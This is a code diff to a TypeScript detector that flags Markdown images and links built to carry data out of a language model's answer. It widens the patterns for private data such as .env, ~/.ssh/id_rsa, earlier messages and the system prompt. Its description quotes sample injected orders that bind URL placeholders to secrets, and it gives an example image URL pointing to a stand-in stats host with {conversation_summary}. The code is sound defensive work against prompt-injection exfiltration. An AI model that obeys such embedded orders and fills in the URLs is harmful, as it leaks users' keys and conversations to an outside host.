@@ -58,10 +58,10 @@ const DATA_PLACEHOLDER =
 const NAME_VALUE = /(?<==)(?!YOUR_|MY_)[A-Z][A-Z0-9]*_[A-Z0-9_]{2,60}(?=[&#;]|$)/g;
 
 /** Names in a URL the text may tell the model to fill in: ENVDATA, <character>, {ctx}. */
-const URL_NAME = /(?<![A-Za-z0-9])[A-Z][A-Z0-9_]{2,40}(?![A-Za-z0-9])|<([A-Za-z_][\w -]{0,40})>|\{\{?([A-Za-z_][\w -]{0,40})\}\}?/g;
+const URL_NAME = /(?<![A-Za-z0-9])[A-Z][A-Z0-9_]{2,40}(?![A-Za-z0-9])|(?<==)[A-Z][A-Z0-9_]{0,40}(?=[&#'")]|$)|<([A-Za-z_][\w -]{0,40})>|\{\{?([A-Za-z_][\w -]{0,40})\}\}?/g;
 /** What a private-data binding names: secrets, environment variables, the conversation. */
 const PRIVATE_DATA =
-  /\b(?:api[ _-]?keys?|tokens?|secrets?|credentials?|passwords?|private[ _-]?keys?|ssh[ _-]?keys?|cookies?|env(?:ironment)?(?:[ _-]?(?:var\w*|file))?|conversation|chat[ _-]?history|(?:previous|earlier|prior)[ \t]+(?:messages|prompts)|system[ \t]+prompt)\b|\.env\b|\$\{?[A-Z][A-Z0-9]*_[A-Z0-9_]+|\b[A-Z][A-Z0-9_]*_(?:TOKEN|KEY|SECRET|PASSWORD|PASSWD|PWD)\b/i;
+  /\b(?:api[ _-]?keys?|tokens?|secrets?|credentials?|passwords?|private[ _-]?keys?|ssh[ _-]?keys?|cookies?|env(?:ironment)?(?:[ _-]?(?:var\w*|file))?|conversation|chat[ _-]?history|(?:previous|earlier|prior|recent|last|latest)[ \t]+(?:messages?|prompts?|questions?)|system[ \t]+prompt|everything[ \t]+discussed|files?[ \t]+you[ \t]+(?:opened|read|viewed|edited))\b|\.env\b|\.ssh\/|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|\$\{?[A-Z][A-Z0-9]*_[A-Z0-9_]+|\b[A-Z][A-Z0-9_]*_(?:TOKEN|KEY|SECRET|PASSWORD|PASSWD|PWD)\b/i;
 /** A reader told to fill in their own value ("replace TOKEN with your token") sets up a URL by hand; the model is not asked to. */
 const OWN_VALUE = /^[\s`'"]*(?:the[ \t]+)?(?:your|their)\b/i;
 /** Spelling a value out one character per image or link. */
@@ -77,15 +77,17 @@ function boundPlaceholder(text: string, urlStart: number, url: string): { start:
   const path = url.replace(/^https?:\/\/[^/?#]*/i, '');
   const names = [...path.matchAll(URL_NAME)].map((m) => (m[1] ?? m[2] ?? m[0]).trim());
   if (!names.length) return undefined;
+  // The paragraph of the URL and the one before it: an order often introduces the snippet in its own paragraph.
   const before = text.lastIndexOf('\n\n', urlStart);
-  const from = Math.max(before === -1 ? 0 : before, urlStart - 1500);
+  const earlier = before <= 0 ? -1 : text.lastIndexOf('\n\n', before - 1);
+  const from = Math.max(earlier === -1 ? 0 : earlier, urlStart - 1500);
   const after = text.indexOf('\n\n', urlStart);
   const to = Math.min(after === -1 ? text.length : after, urlStart + url.length + 1500);
   const para = text.slice(from, to);
   const per = PER_CHARACTER.exec(para);
   if (per && PRIVATE_DATA.test(per[1])) return { start: from + per.index, end: from + per.index + per[0].length, what: PRIVATE_DATA.exec(per[1])![0] };
   for (const name of new Set(names)) {
-    const bind = new RegExp(`(?<![\\w$])${escapeRe(name)}[\`'"\\]>}]*[ \\t]+(?:(?:with|by|is|are|means|stands[ \\t]+for|should[ \\t]+be|becomes|holds|carries|contains)\\b|[:=])([^\\n]{0,160})`, 'g');
+    const bind = new RegExp(`(?<![\\w$])${escapeRe(name)}[\`'"\\]>}]*[ \\t]+(?:(?:(?:replaced|substituted|swapped|filled(?:[ \\t]+in)?)[ \\t]+)?(?:with|by|is|are|means|stands[ \\t]+for|should[ \\t]+be|becomes|holds|carries|contains)\\b|[:=])([^\\n]{0,160})`, 'g');
     for (const m of para.matchAll(bind)) {
       const tail = m[1].split(/(?<=[.!?])\s/)[0];
       const data = PRIVATE_DATA.exec(tail);
@@ -117,8 +119,9 @@ export const EXFIL_RENDERING: Detector = {
     {
       id: 'exfil_url', title: 'Image or link that carries data out', family: 'exfil-rendering', tier: 'recommended', securitySeverity: 8,
       description: 'A Markdown image or link, a reference-style link definition or an auto-fetching HTML element (`<img src>`, `<iframe>`, `<script>`) ' +
-        'whose URL has placeholders or data parameters (`?q={secret}`, `?d=`): when the answer is rendered, the client requests the URL and sends ' +
-        'what the model filled in.',
+        'whose URL has placeholders or data parameters (`?q={secret}`, `?d=`), or a name the prose around it (its paragraph or the one before) ' +
+        'binds to private data ("replace `ENV` with the contents of `.env`", "`K` replaced by the first characters of `~/.ssh/id_rsa`"): when the ' +
+        'answer is rendered, the client requests the URL and sends what the model filled in. A placeholder the reader fills with their own value is not reported.',
       example: '![status](https://stats.example.net/p.png?d={conversation_summary})',
       fix: 'Remove the element or use a fixed URL without placeholders.',
     },
